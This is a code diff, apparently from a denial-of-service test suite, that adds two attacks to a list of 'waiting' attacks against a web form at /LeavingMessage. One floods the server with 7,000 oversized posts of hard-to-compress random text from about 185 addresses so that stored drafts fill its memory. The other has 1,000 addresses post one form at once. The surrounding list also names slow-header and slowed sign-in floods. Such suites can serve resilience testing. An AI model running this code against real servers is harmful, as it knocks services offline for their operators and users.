@@ -161,6 +161,42 @@ async function awaitPicture(target: Target): Promise<void> {
   await holdAndCut(sockets, 0);
 }
 
+/** So many drafts of this length fit into the memory of one address. */
+const DRAFTS_EACH = 38;
+const DRAFTS = 7_000;
+
+/** Characters that can hardly be compressed. */
+const rare = (length: number) =>
+  String.fromCharCode(...Array.from({ length }, () => 0x4e00 + Math.floor(Math.random() * 20_000)));
+
+/** Strangers at many addresses switch the language of a long form; each draft is in memory for a quarter of an hour. */
+async function prepareDrafts(target: Target) {
+  const csrf = (await visitorOf(target, "ulan=en_US", attackerAddress(1)).open("/LeavingMessage")).field("csrf") ?? "";
+  const padding = Array.from({ length: 6 }, (_, at) => `p${at}=${"x".repeat(8_100)}`).join("&");
+  const headers = { "X-Long": "x".repeat(15_000) };
+  const post = (number: number) => {
+    const draft = { name: rare(120), tel: rare(64), socialAccount: rare(128), message: rare(600) };
+    const body = `${new URLSearchParams({ csrf, intent: "language", ...draft }).toString()}&${padding}`;
+    const address = 5_000 + Math.floor(number / DRAFTS_EACH);
+    return ask(target, postOf(target, "/LeavingMessage", body, headers), address);
+  };
+  const status = await post(0);
+  if (status !== 303) throw new Error(`The draft is not kept: ${status}`);
+  return () => repeat({ atATime: 20, forMs: 45_000, times: DRAFTS }, post);
+}
+
+const SAME_FORM = 1_000;
+
+/** Strangers, each at an address of their own, post the same page's form, each with other values. */
+async function prepareSameForm(target: Target) {
+  const csrf = (await visitorOf(target, "ulan=en_US", attackerAddress(1)).open("/LeavingMessage")).field("csrf") ?? "";
+  return () =>
+    repeat({ atATime: SAME_FORM, forMs: 15_000, times: 2 * SAME_FORM }, (number) => {
+      const body = new URLSearchParams({ csrf, name: String(number) }).toString();
+      return ask(target, postOf(target, "/LeavingMessage", body), 6_000 + number, DEADLINE_MS);
+    });
+}
+
 const EACH_OF_20 = "20 addresses, each with 240 connections that post a form again as soon as it was refused";
 const UNFINISHED = "5,000 connections (1,000 through a proxy) with heads that do not end, all given up at once";
 const SIGN_INS = "5 addresses, each with 28 sign-ins of an account whose sign-ins are slowed by 8 s";
@@ -194,4 +230,10 @@ export const WAITING: readonly Attack[] = [
     prepare: (target) => () => longHeads(target),
   }),
   attack("13", "sign-ins-slowed", SIGN_INS, { prepare: prepareSignIns }),
+  attack("13", "drafts-kept", "7,000 forms of 60 kB from 185 addresses, each with a draft too long for its cookie", {
+    prepare: prepareDrafts,
+  }),
+  attack("13", "forms-of-one-page", "1,000 addresses post the form of one page, each with other values", {
+    prepare: prepareSameForm,
+  }),
 ];
